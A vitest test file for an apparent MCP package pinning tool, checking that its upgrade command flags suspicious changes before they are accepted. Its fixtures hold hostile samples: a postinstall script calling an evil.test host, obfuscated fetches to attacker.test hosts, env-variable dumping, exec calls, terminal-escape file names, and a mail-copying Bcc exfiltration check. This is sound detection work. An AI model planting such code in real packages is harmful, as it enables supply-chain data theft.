import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { transformSync } from 'esbuild'
import { afterAll, beforeAll, beforeEach, expect, it, vi } from 'vitest'
import type { Internet, RunResult } from '../fixtures/internet/model.ts'
import { a } from '../fixtures/internet/records.ts'
import { expectSilence } from '../fixtures/internet/silence.ts'
import { COPY_TO, packageOf, programOf, type Version } from '../fixtures/postmark-mcp/versions.ts'
import { history } from '../fixtures/product/history.ts'
import { type Product, product } from '../fixtures/product/product.ts'
import { registryAt } from '../fixtures/product/registry-places.ts'
import { runOpen } from '../fixtures/product/run-open.ts'
import { startInternet } from '../fixtures/product/sandbox.ts'
import { type FixturePackage, type FixtureRegistry, startRegistry } from '../fixtures/registry.ts'

const HOST = 'packages.test'
const ADDRESS = '203.0.113.92'
const ANN = { published: '2026-01-01T00:00:00.000Z', user: 'ann', maintainers: ['ann'] }
const CALLS_OUT = 'fetch("http://installed.evil.test/").catch(() => 0)'

const cli = (text: string) => `#!/usr/bin/env node\nprocess.stdout.write("${text}\\n")\n`
const server = (
  version: string,
  more: Partial<Omit<FixturePackage, 'manifest'>> & { manifest?: object } = {},
) => ({
  ...ANN,
  ...more,
  manifest: { name, version, bin: 'cli.js', ...more.manifest },
  files: { 'cli.js': cli(version), ...more.files },
})

// Each test installs several times.
vi.setConfig({ testTimeout: 180_000 })

let internet: Internet
let registry: FixtureRegistry
let mcp: Product
/** Of each test its own: a published version never changes. */
let name: string
let tests = 0
let endPlace: () => unknown
beforeAll(async () => {
  internet = await startInternet({ zones: { [HOST]: [a(ADDRESS)] } })
  registry = await startRegistry([
    {
      manifest: { name: 'helper', version: '1.0.0', scripts: { postinstall: 'node call.js' } },
      files: { 'call.js': CALLS_OUT, 'index.js': '' },
      ...ANN,
    },
    {
      manifest: { name: 'marker', version: '1.0.0', scripts: { postinstall: 'node mark.js' } },
      files: { 'mark.js': 'require("fs").writeFileSync("ran.txt", "x")' },
      ...ANN,
    },
  ])
  endPlace = await registryAt(internet, registry, { address: ADDRESS, port: 80 })
})
afterAll(async () => {
  await endPlace()
  await registry.close()
  await internet.close()
})
beforeEach(async () => {
  registry.faults.clear()
  name = `reach-server-${++tests}`
  mcp = product(internet, { user: 'root' })
  writeFileSync(join(mcp.home, '.npmrc'), `registry=http://${HOST}/\nfetch-retries=0\n`)
})

const run = (...args: string[]): Promise<RunResult> => runOpen(mcp, args, 55_000).ended
const text = ({ stdout }: RunResult) => stdout.toString()
const pinned = async (what = name) => JSON.parse(text(await run('pin', what, '--json')))[0]
const started = async (...args: string[]) => text(await run('-y', ...args)).trim()
/** Pins 1.0.0, and publishes what the test has for the next one. */
const pinFirst = async (next: FixturePackage, first: FixturePackage = server('1.0.0')) => {
  await registry.publish(first)
  expect((await run('pin', first.manifest.name)).code).toBe(0)
  await registry.publish(next)
}

it('shows what differs and changes nothing; --yes takes it, and the next start runs it', async () => {
  await pinFirst(server('1.1.0', { files: { 'cli.js': `${cli('1.1.0')}fetch("https://new.host.test/")\n` } }))
  const before = await pinned()
  const shown = await expectSilence(internet, () => run('upgrade', name))
  expect(shown.code).toBe(1)
  const lines = text(shown).split('\n')
  expect(lines[0]).toBe(`${name} 1.0.0 -> 1.1.0`)
  expect(lines).toContain(`! new host in the code: https://new.host.test/  ${name}@1.1.0 cli.js:3`)
  expect(text(shown)).toContain('     3 + fetch("https://new.host.test/")')
  expect(text(shown)).toMatch(/published {4}2026-01-01 00:00 by ann, \d+ days ago/)
  expect(text(shown)).toContain(`${name}@1.0.0 stays as it is pinned; --yes takes what was shown`)
  expect(await pinned()).toEqual(before)
  expect(await started(name)).toBe('1.0.0')

  const dry = await run('upgrade', name, '--dry-run')
  expect([dry.code, await pinned()]).toEqual([1, before])

  const taken = await run('upgrade', name, '--yes')
  expect(taken.code).toBe(0)
  expect(text(taken)).toContain(`${name}@1.1.0 is pinned: the next start runs it`)
  expect(await pinned()).toMatchObject({ version: '1.1.0', replaces: '1.0.0', spec: name })
  expect(await started(name)).toBe('1.1.0')
  const again = await run('upgrade', name)
  expect([again.code, text(again)]).toEqual([0, `${name}@1.1.0 is what there is, and what is pinned\n`])

  const back = await run('upgrade', name, '1.0.0', '--yes')
  expect(text(back)).toContain(`${name} 1.1.0 -> 1.0.0`)
  expect(await started(name)).toBe('1.0.0')
  const { sessions } = history(mcp.store, name)
  expect(sessions.every(({ phase, end }) => end === 'exited' && ['install', 'run'].includes(phase))).toBe(
    true,
  )
})

it.each([
  ['as it was written', 'postmark-mcp', (version: Version) => packageOf(version).files?.['index.mjs'] ?? ''],
  [
    'minified, on a few lines',
    'mcp-postmark',
    (version: Version) => `#!/usr/bin/env node\n${transformSync(programOf(version), { minify: true }).code}`,
  ],
])('the line that copies every mail stands out, %s', async (_, copy, program) => {
  const version = (one: Version) => ({
    manifest: { ...packageOf(one).manifest, name: copy, version: one },
    files: { 'index.mjs': program(one) },
  })
  await registry.publish(version('1.0.15'))
  expect((await run('pin', copy, '--accept-name', copy)).code).toBe(0)
  await registry.publish(version('1.0.16'))
  const shown = await run('upgrade', copy)
  expect(shown.code).toBe(1)
  const all = text(shown).split('\n')
  const warnings = all.filter((line) => line.startsWith('!'))
  expect(warnings[0]).toBe(`! ${copy} is not @activecampaign/postmark-mcp, which many run`)
  expect(warnings[1]).toContain(`! new mail address in the code: ${COPY_TO}  ${copy}@1.0.16 index.mjs:`)
  expect(warnings).toHaveLength(2)
  const at = all.indexOf(warnings[1] ?? '')
  expect(all[at + 1]).toMatch(/\bBcc: ?["']phan@giftshop\.club["']/)
  expect(at).toBeLessThan(20)
  expect(all.length).toBeLessThan(40)
})

it('in a minified bundle: a host in plain text, one in base64, one in escapes, and what else is odd', async () => {
  const bundle = (extra: string) => {
    const filler = Array.from({ length: 3000 }, (_, n) => `function f${n}(a){return a+${n}}`).join(';')
    return `#!/usr/bin/env node\n${filler};${extra};f1(2)\n`
  }
  const hidden = [
    'fetch("https://plain.attacker.test/x")',
    `fetch(atob("${Buffer.from('https://hidden.attacker.test/').toString('base64')}"))`,
    'fetch("\\x68\\x74\\x74\\x70\\x73://\\x65\\x73\\x63.attacker.test")',
    'fetch("https://jo"+"ined.atta"+"cker.test")',
    'require("child_process").exec("id")',
    'require("dgram")',
    'var _0x1a2b3c=JSON.stringify(process.env)',
  ].join(';')
  const { manifest } = server('1.1.0')
  await pinFirst(
    { manifest, files: { 'cli.js': bundle(hidden) }, ...ANN },
    { ...server('1.0.0'), files: { 'cli.js': bundle('f2(1)') } },
  )
  const shown = text(await run('upgrade', name))
  for (const line of [
    '! new host in the code: https://plain.attacker.test/x  ',
    '! new host in the code: https://hidden.attacker.test/ (written as base64)  ',
    '! new host in the code: https://esc.attacker.test/ (written as escape)  ',
    '! new host in the code: https://joined.attacker.test/ (written as assembled)  ',
    '! starts other programs (child_process)  ',
    '! opens connections of its own: dgram  ',
    '! reads all environment variables at once  ',
    '! has names as obfuscators write them (_0x…)  ',
  ])
    expect(shown).toContain(`\n${line}${name}@1.1.0 cli.js:2\n`)
})

it('another publisher is said first, and only a person takes it', async () => {
  await pinFirst(server('1.1.0', { user: 'eve', maintainers: ['eve'] }))
  const shown = await run('upgrade', name)
  const warnings = text(shown)
    .split('\n')
    .filter((line) => line.startsWith('!'))
  expect(warnings.slice(0, 2)).toEqual(['! published by eve, before by ann', '! new maintainers: eve'])
  expect([shown.code, (await pinned()).version]).toEqual([1, '1.0.0'])
  expect((await run('upgrade', name, '--yes')).code).toBe(0)
  expect(await pinned()).toMatchObject({ version: '1.1.0', publisher: { user: 'eve' } })
})

it('a new dependency with an install script: nothing of it runs before it is accepted, nor after unless allowed', async () => {
  await pinFirst(server('1.1.0', { manifest: { dependencies: { helper: '1', marker: '1' } } }))
  const shown = await expectSilence(internet, () => run('upgrade', name, '--allow-scripts', 'marker'))
  expect(text(shown)).toContain(
    '! new install script of helper@1.0.0 (not run)\n      postinstall: node call.js\n',
  )
  expect(text(shown)).toContain(
    '! new install script of marker@1.0.0 (allowed: it runs once this is accepted)\n',
  )
  expect(text(shown)).toContain('! new host in the code: http://installed.evil.test/  helper@1.0.0 call.js:1')
  expect(text(shown)).toMatch(/Dependencies:\n {2}\+ helper@1\.0\.0\n {2}\+ marker@1\.0\.0\n/)
  expect(history(mcp.store, name).sessions).toHaveLength(2)

  const refused = await expectSilence(internet, () =>
    run('upgrade', name, '--yes', '--allow-scripts', 'helper'),
  )
  expect(refused.code).toBe(2)
  expect(refused.stderr.toString()).toContain(
    'the install script of helper@1.0.0 asked for DNS name installed.evil.test',
  )
  expect((await pinned()).version).toBe('1.0.0')

  const taken = await expectSilence(internet, () =>
    run('upgrade', name, '--yes', '--allow-scripts', 'marker'),
  )
  expect(taken.code).toBe(0)
  const pin = await pinned()
  expect(pin).toMatchObject({ version: '1.1.0', scripts: ['helper@1.0.0'], ranScripts: ['marker@1.0.0'] })
  expect(readFileSync(join(mcp.store, 'packages', pin.tree, 'node_modules/marker/ran.txt'), 'utf8')).toBe('x')
})

it('a registry that goes down on the way, a young version, a version that is not there: the pin is as it was', async () => {
  await pinFirst(server('1.1.0', { manifest: { dependencies: { helper: '1' } } }))
  const before = await pinned()
  registry.faults.set('helper', 'unavailable')
  const down = await run('upgrade', name, '--yes')
  expect([down.code, text(down)]).toEqual([2, ''])
  registry.faults.clear()
  await registry.publish(server('1.2.0', { published: new Date().toISOString() }))
  const young = await run('upgrade', name, '--yes', '--json')
  expect(young.code).toBe(2)
  expect(JSON.parse(text(young))).toMatchObject({
    state: 'refused',
    after: { version: '1.2.0' },
    refusal: { message: expect.stringContaining('is too little') },
  })
  expect((await run('upgrade', name, '7.7.7', '--yes')).code).toBe(2)
  expect((await run('upgrade', 'never-pinned')).stderr.toString()).toContain('never-pinned is not pinned')
  expect(await pinned()).toEqual(before)
  expect(readdirSync(join(mcp.store, 'packages/stage'))).toEqual([])
})

it('file names and texts that a terminal would act on are shown as what they are', async () => {
  const evil = '\u001b[2J\u001b]8;;https://link.test/\u0007\u202e'
  await pinFirst(
    server('1.1.0', {
      files: {
        'cli.js': `${cli('1.1.0')}// ${evil} https://new.host.test/${evil}\n`,
        [`lib/${evil.replaceAll('/', '')}.js`]: `"https://other.host.test/" // ${evil}`,
      },
      user: 'ann',
    }),
  )
  const shown = await run('upgrade', name)
  expect(shown.code).toBe(1)
  // biome-ignore lint/suspicious/noControlCharactersInRegex: it is what must not be there
  const acts = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/
  expect(text(shown)).not.toMatch(acts)
  expect(shown.stderr.toString()).not.toMatch(acts)
  expect(text(shown)).toContain('! new host in the code: https://new.host.test/')
  expect(text(shown)).toContain(`+ ${name}@1.1.0 lib/\\x1b[2J`)
  const json = text(await run('upgrade', name, '--json'))
  expect(json).not.toMatch(acts)
  expect(JSON.parse(json)).toMatchObject({
    state: 'declined',
    version: '1.0.0',
    package: name,
    after: { version: '1.1.0', publisher: { user: 'ann' } },
    fileCount: 3,
    unreadCount: 0,
  })
})

it('an exact version stays what it says; a profile that names one is changed', async () => {
  await pinFirst(server('1.1.0'))
  expect(await started(`${name}@1.0.0`)).toBe('1.0.0')
  const exact = await run('upgrade', `${name}@1.0.0`, '--yes')
  expect(text(exact)).toContain(`${name}@1.1.0 is pinned: write ${name}@1.1.0 where ${name}@1.0.0 stands`)
  expect(await started(`${name}@1.0.0`)).toBe('1.0.0')
  const none = registry.requests.length
  expect(await started(`${name}@1.1.0`)).toBe('1.1.0')
  expect(registry.requests.length).toBe(none)

  mkdirSync(join(mcp.store, 'profiles'), { recursive: true })
  const file = join(mcp.store, 'profiles/mine.yaml')
  writeFileSync(file, `name: mine\npackage: ${name}@1.0.0 # tried\negress: []\n`)
  expect(await started(name)).toBe('1.0.0')
  const named = await run('upgrade', name, '--yes')
  expect(text(named)).toContain(`+package: "${name}@1.1.0" # tried`)
  expect(text(named)).toContain(`${name}@1.1.0 is pinned: ${file} names it`)
  expect(await started(name)).toBe('1.1.0')
  expect(text(await run('--profile', 'mine')).trim()).toBe('1.1.0')
})

it.each([
  ['y', 0, '1.1.0'],
  ['', 1, '1.0.0'],
])('at a terminal it asks; the answer %j', async (answer, code, version) => {
  await pinFirst(server('1.1.0'))
  const { argv, options } = mcp.command(['upgrade', name])
  const words = argv.map((word) => `'${word}'`).join(' ')
  const at = ['script', '-qec', words, '/dev/null']
  const result = await internet.run(at, { ...options, input: `${answer}\n`, timeoutMs: 55_000 })
  expect(result.stdout.toString()).toContain(`Take ${name}@1.1.0 in the place of 1.0.0? [y/N]`)
  expect([result.code, (await pinned()).version]).toEqual([code, version])
})
